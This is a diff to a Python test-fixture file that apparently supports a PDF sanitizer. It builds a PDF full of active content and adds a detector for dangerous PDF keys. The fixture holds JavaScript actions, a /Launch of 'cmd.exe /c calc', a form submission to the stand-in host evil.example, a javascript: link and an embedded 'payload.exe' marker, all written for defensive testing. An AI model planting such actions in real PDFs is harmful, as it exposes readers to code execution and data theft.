@@ -289,3 +289,121 @@ def zip_archive() -> bytes:
     with zipfile.ZipFile(buf, "w") as zf:
         zf.writestr("document.pdf", one_page_letter())
     return buf.getvalue()
+
+
+# --- active content ----------------------------------------------------------------------------
+# What a viewer would run or open by itself. Each piece carries a marker string that must not
+# survive cleaning, and the document keeps one ordinary web link that must.
+
+LINK_URL = "https://example.com/terms"
+SCRIPT_MARKER = "countersign-active-js"
+PAYLOAD_MARKER = b"countersign-embedded-payload"
+
+
+def _js(code: str = f"app.alert('{SCRIPT_MARKER}')") -> bytes:
+    return b"<< /Type /Action /S /JavaScript /JS (%s) >>" % code.encode()
+
+
+def active_content_pdf() -> bytes:
+    """One page with JavaScript everywhere it can hang, plus /OpenAction, /AA on the catalog,
+    page, a form field and a link, /Launch, /SubmitForm, /GoToR and a javascript: URI on links,
+    an embedded file (name tree and a /FileAttachment annotation), an XFA form, a JavaScript
+    bookmark — and one plain https link (object 15) that has to stay."""
+    objects = _simple_page_objects()
+    objects[1] = (b"<< /Type /Catalog /Pages 2 0 R /OpenAction 10 0 R /AA << /WC 11 0 R >> "
+                  b"/Names << /JavaScript 12 0 R /EmbeddedFiles 13 0 R >> /AcroForm 20 0 R /Outlines 30 0 R >>")
+    objects[3] = (b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R "
+                  b"/Resources << /Font << /F1 5 0 R >> >> /AA << /O 14 0 R >> "
+                  b"/Annots [15 0 R 16 0 R 17 0 R 18 0 R 19 0 R 21 0 R 22 0 R] >>")
+    objects.update({
+        10: _js(), 11: _js(), 14: _js(),
+        12: b"<< /Names [(init) 23 0 R] >>",
+        23: _js(),
+        13: b"<< /Names [(payload.exe) 24 0 R] >>",
+        24: b"<< /Type /Filespec /F (payload.exe) /EF << /F 25 0 R >> >>",
+        25: stream(PAYLOAD_MARKER, b"/Type /EmbeddedFile"),
+        15: b"<< /Type /Annot /Subtype /Link /Rect [72 600 300 620] /A << /S /URI /URI (%s) >> >>"
+            % LINK_URL.encode(),
+        16: b"<< /Type /Annot /Subtype /Link /Rect [72 560 300 580] "
+            b"/A << /S /Launch /F (cmd.exe) /Win << /F (cmd.exe) /P (/c calc) >> >> >>",
+        17: b"<< /Type /Annot /Subtype /FileAttachment /Rect [72 520 90 540] /FS 24 0 R >>",
+        18: b"<< /Type /Annot /Subtype /Widget /FT /Tx /T (name) /Rect [72 480 300 500] /P 3 0 R "
+            b"/AA << /K 26 0 R /Fo 26 0 R >> >>",
+        26: _js(),
+        19: b"<< /Type /Annot /Subtype /Link /Rect [72 440 300 460] "
+            b"/A << /S /GoToR /F (other.pdf) /D [0 /Fit] >> >>",
+        21: b"<< /Type /Annot /Subtype /Link /Rect [72 400 300 420] "
+            b"/A << /S /SubmitForm /F << /FS /URL /F (https://evil.example/collect) >> >> >>",
+        22: b"<< /Type /Annot /Subtype /Link /Rect [72 360 300 380] /A << /S /URI /URI (javascript:alert(1)) >> >>",
+        20: b"<< /Fields [18 0 R] /XFA 27 0 R /NeedsRendering true >>",
+        27: stream(b"<xdp:xdp><script>" + SCRIPT_MARKER.encode() + b"</script></xdp:xdp>"),
+        30: b"<< /Type /Outlines /First 31 0 R /Last 31 0 R /Count 1 >>",
+        31: b"<< /Title (Start) /Parent 30 0 R /A 32 0 R >>",
+        32: _js(),
+    })
+    return raw_pdf(objects)
+
+
+def harmless_interactive_pdf() -> bytes:
+    """What must be left alone: a destination /OpenAction, an internal /GoTo link, a mailto link,
+    a page-turning named action and an http link whose /Next is another link."""
+    objects = _simple_page_objects()
+    objects[1] = b"<< /Type /Catalog /Pages 2 0 R /OpenAction [3 0 R /Fit] >>"
+    objects[3] = (b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R "
+                  b"/Resources << /Font << /F1 5 0 R >> >> /Annots [10 0 R 11 0 R 12 0 R 13 0 R] >>")
+    objects.update({
+        10: b"<< /Type /Annot /Subtype /Link /Rect [0 0 10 10] /A << /S /GoTo /D [3 0 R /Fit] >> >>",
+        11: b"<< /Type /Annot /Subtype /Link /Rect [0 20 10 30] /A << /S /URI /URI (mailto:legal@example.com) >> >>",
+        12: b"<< /Type /Annot /Subtype /Link /Rect [0 40 10 50] /A << /S /Named /N /NextPage >> >>",
+        13: b"<< /Type /Annot /Subtype /Link /Rect [0 60 10 70] "
+            b"/A << /S /URI /URI (http://example.com/a) /Next << /S /URI /URI (HTTPS://example.com/b) >> >> >>",
+    })
+    return raw_pdf(objects)
+
+
+# Names whose presence anywhere in a PDF's object graph means active content survived.
+ACTIVE_MARKERS = frozenset({
+    "/JavaScript", "/JS", "/OpenAction", "/AA", "/Launch", "/EmbeddedFiles", "/EmbeddedFile", "/EF",
+    "/FileAttachment", "/XFA", "/SubmitForm", "/ImportData", "/GoToR", "/GoToE", "/RichMedia", "/AF",
+})
+
+
+def active_markers(data: bytes) -> set[str]:
+    """Every marker name found as a key or a name value in any object reachable from the
+    trailer, plus "script text"/"embedded payload" when those bytes appear in the file at all.
+    Deliberately independent of the code under test: a plain walk over everything."""
+    reader = PdfReader(io.BytesIO(data))
+    found: set[str] = set()
+    pending: list[object] = [reader.trailer]
+    seen: set[int] = set()
+    while pending:
+        obj = pending.pop()
+        obj = obj.get_object() if hasattr(obj, "get_object") else obj
+        if id(obj) in seen:
+            continue
+        seen.add(id(obj))
+        if isinstance(obj, dict):
+            found |= {str(key) for key in obj} & ACTIVE_MARKERS
+            pending.extend(obj.values())
+        elif isinstance(obj, list):
+            pending.extend(obj)
+        elif isinstance(obj, str) and obj in ACTIVE_MARKERS:
+            found.add(obj)
+        elif isinstance(obj, (str, bytes)) and SCRIPT_MARKER in str(obj):
+            found.add("script text")
+    if SCRIPT_MARKER.encode() in data:
+        found.add("script text")
+    if PAYLOAD_MARKER in data:
+        found.add("embedded payload")
+    return found
+
+
+def link_uris(data: bytes) -> list[str]:
+    """The /URI of every link annotation on every page, in page order."""
+    uris = []
+    for page in PdfReader(io.BytesIO(data)).pages:
+        for annotation in page.get("/Annots") or []:
+            action = annotation.get_object().get("/A")
+            if action is not None and action.get_object().get("/S") == "/URI":
+                uris.append(str(action.get_object()["/URI"]))
+    return uris
